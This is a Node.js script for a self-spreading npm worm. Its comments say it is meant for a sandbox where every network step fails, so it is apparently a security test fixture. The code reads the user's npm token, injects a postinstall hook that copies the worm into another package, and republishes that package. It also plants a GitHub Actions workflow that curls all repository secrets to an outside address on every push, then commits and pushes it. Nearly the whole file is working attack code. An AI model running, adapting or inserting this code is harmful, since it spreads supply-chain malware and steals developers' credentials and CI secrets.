// A Shai-Hulud-style npm worm in plain Node.js (no modules): reads the user's npm token,
// asks the registry who it is, injects a postinstall into another package it finds, repacks
// and publishes it, then plants a GitHub Actions workflow in a repository and pushes it.
// The registry is 127.0.0.1:9 (nothing listens) and the git remote is an outside address
// the sandbox cannot reach, so every step fails: the attempts are the finding. The token is
// fake. Usage: node worm.js VICTIM_PKG_DIR REPO_DIR
'use strict';
const { spawnSync } = require('child_process');
const fs = require('fs');
const os = require('os');
const path = require('path');

const [victim, repo] = process.argv.slice(2);
const registry = 'http://127.0.0.1:9/';
const run = (cmd, args, cwd) => spawnSync(cmd, args, { cwd, stdio: 'ignore', timeout: 20000 });

let token = '';
try { token = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8'); } catch (e) {}
run('npm', ['whoami', '--registry', registry]);

// Trojanize the other package: a postinstall hook, a bumped version, the payload copied in.
const pj = path.join(victim, 'package.json');
const meta = JSON.parse(fs.readFileSync(pj, 'utf8'));
meta.scripts = Object.assign({}, meta.scripts, { postinstall: 'node bundle.js' });
meta.version = meta.version.replace(/\d+$/, (n) => String(Number(n) + 1));
fs.writeFileSync(pj, JSON.stringify(meta, null, 2));
fs.copyFileSync(__filename, path.join(victim, 'bundle.js'));
run('npm', ['pack'], victim);
run('tar', ['czf', '/tmp/package-updated.tgz', '-C', victim, '.']);
run('npm', ['publish', '/tmp/package-updated.tgz', '--registry', registry], victim);

// CI persistence: a workflow that sends the repository's secrets out on every push.
const wf = path.join(repo, '.github', 'workflows');
fs.mkdirSync(wf, { recursive: true });
fs.writeFileSync(path.join(wf, 'shai-hulud-workflow.yml'),
  'on: push\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -d "${{ toJSON(secrets) }}" https://203.0.113.9/\n');
run('git', ['add', '.github'], repo);
run('git', ['-c', 'user.email=w@x', '-c', 'user.name=w', 'commit', '-qm', 'ci'], repo);
run('git', ['push', '-q', 'origin', 'HEAD'], repo);
